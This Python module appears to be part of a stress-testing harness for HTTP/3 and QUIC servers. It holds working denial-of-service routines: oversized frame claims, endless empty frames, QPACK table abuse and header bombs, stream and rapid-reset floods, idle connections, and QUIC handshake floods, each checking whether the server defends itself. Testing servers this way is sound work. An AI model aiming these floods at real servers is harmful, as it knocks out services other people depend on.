"""HTTP/3 and QUIC."""

import asyncio
import ssl

from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection

from attacks import attack, lanes
from wire.http2 import integer
from wire.http3 import CONTROL, DATA, DECODER, ENCODER, GIANT, HEADERS, SETTINGS, ask, fields, frame, http3, number
from wire.irtt import Speaker


async def giant(target, begin):
    async with http3(target) as it:
        if it is None:
            return

        async def fill():
            while target.goes_on() and not it.is_closed:
                stream = it.stream()
                await it.send(stream, begin)
                while target.goes_on() and stream not in it.reset:
                    await it.send(stream, bytes(65536))
                await asyncio.sleep(0.05)

        await asyncio.gather(*[fill() for _ in range(4)], return_exceptions=True)
        if not it.reset and not it.is_closed:
            target.fault("no stream was stopped")


@attack(mib=32)
async def h3_headers(target):
    """HEADERS frames that claim 4 GiB, four on a connection, and what they claim."""
    await giant(target, frame(HEADERS, length=GIANT))


@attack(mib=32)
async def h3_unknown_frames(target):
    """Frames of a type that nobody knows, which claim 4 GiB, before a request's header (RFC 9114, 9)."""
    await giant(target, frame(0x21, length=GIANT))


@lanes(1, http3, opening={"begins": False}, mib=32, closes=True)
async def h3_settings(_, it, lane):
    """SETTINGS that claim 4 GiB on the control stream."""
    control = it.stream(one_way=True)
    await it.send(control, number(CONTROL) + frame(SETTINGS, length=GIANT))
    await it.flood(control, bytes(65536))


@lanes(2, http3)
async def h3_grease(_, it, lane):
    """Frames of reserved types and no length on the control stream, without end (RFC 9114, 10.5)."""
    await it.flood(it.control, frame(0x21) * 5000)


@lanes(2, http3)
async def h3_empty_data(target, it, lane):
    """DATA frames of no bytes without end (RFC 9114, 10.5)."""
    burst = frame(DATA) * 5000
    while target.goes_on():
        stream = it.stream()
        await it.send(stream, ask(b"POST", b"/upload"))
        while target.goes_on() and stream not in it.reset:
            await it.send(stream, burst)


@lanes(2, http3)
async def h3_qpack(_, it, lane):
    """Entries for QPACK's table, which the server did not offer, and headers that wait for entries that never come (RFC 9204, 7)."""
    capacity = integer(1 << 30, 5, 0x20)
    insert = integer(1, 5, 0x40) + b"x" + integer(1000, 7) + b"y" * 1000
    encoder = it.stream(one_way=True)
    await it.send(encoder, number(ENCODER) + capacity)
    for _ in range(50):
        # Required insert count 200 of a table without entries.
        await it.send(it.stream(), frame(HEADERS, b"\xc8\0\x80"), end=True)
    await it.flood(encoder, insert * 50)


@lanes(2, http3)
async def h3_qpack_bomb(target, it, lane):
    """Headers of 16 kB whose fields are 7,500 fields of the static table (RFC 9204, 7.1)."""
    # Two bytes for entry 85 of the static table, content-security-policy: 76 bytes, and 32 that each field is counted for.
    block = fields() + b"\xff\x16" * 7500
    while target.goes_on():
        await it.send(it.stream(), frame(HEADERS, block), end=True)


@lanes(8, http3)
async def h3_unread(target, it, lane):
    """Streams of QPACK's encoder and decoder, which hold nothing that a server without a table needs, filled as far as the windows go."""
    streams = [it.stream(one_way=True) for _ in range(2)]
    for stream, kind in zip(streams, (ENCODER, DECODER)):
        await it.send(stream, number(kind))
    while target.goes_on():
        for stream in streams:
            await it.send(stream, bytes(64 << 10))
        await asyncio.sleep(0.01)


@lanes(2, http3, closes=True)
async def h3_one_way(target, it, lane):
    """One-way streams of unknown types, more than the server allows (RFC 9000, 4.6)."""
    it.heed_no_limits()
    for n in range(10_000):
        if not target.goes_on():
            break
        await it.send(it.stream(one_way=True), number(0x21 + 0x1f * n) + bytes(100))
    await asyncio.sleep(0.2)


@lanes(2, http3)
async def h3_cancel(target, it, lane):
    """Requests that are reset at once (RFC 9114, 10.5)."""
    while target.goes_on():
        for _ in range(50):
            stream = it.stream()
            it.put(stream, ask(path=b"/large"))
            it._quic.reset_stream(stream, 0x10c)
            it._quic.stop_stream(stream, 0x10c)
        it.transmit()
        await asyncio.sleep(0.01)
        it.check()


@attack(seconds=40, closes=True, is_silent=True)
async def h3_silent(target):
    """200 connections of QUIC that say nothing after their handshake."""
    gate = asyncio.Semaphore(8)

    async def each(number):
        async with gate:
            connection = http3(target, target.source(number % 50), begins=False)
            it = await connection.__aenter__()
        while it and target.goes_on() and not it.is_closed:
            await asyncio.sleep(0.2)
        await connection.__aexit__(None, None, None)

    await target.once(200, each)


def hello():
    configuration = QuicConfiguration(is_client=True, alpn_protocols=["h3"], server_name="bench", verify_mode=ssl.CERT_NONE)
    quic = QuicConnection(configuration=configuration)
    quic.connect(("198.18.0.1", 4043), now=0.0)
    return [data for data, _ in quic.datagrams_to_send(now=0.0)]


class Hello(Speaker):
    def datagram_received(self, data, _):
        self.got += len(data)
        self.target.counts.refused += 1
        if self.got > self.went:
            self.target.fault(f"{self.got} bytes to an address that sent {self.went}")


@attack()
async def quic_hellos(target):
    """First packets of QUIC from 2,000 ports, whose Retry nobody follows, and none of which may be answered by more than came."""
    loop = asyncio.get_running_loop()
    packets = [packet for _ in range(50) for packet in hello()]
    sockets = []
    while target.goes_on():
        for number in range(100):
            if len(sockets) < 2000:
                _, made = await loop.create_datagram_endpoint(lambda: Hello(target), local_addr=(target.source(number), 0),
                                                              remote_addr=(target.address, target.tls))
                target.counts.made += 1
                sockets.append(made)
            sockets[number % len(sockets)].send(packets[number % len(packets)])
        sockets = sockets[100:] + sockets[:100] if len(sockets) >= 2000 else sockets
        await asyncio.sleep(0.01)
    if not any(socket.got for socket in sockets):
        target.counts.errors.append("no answer at all")
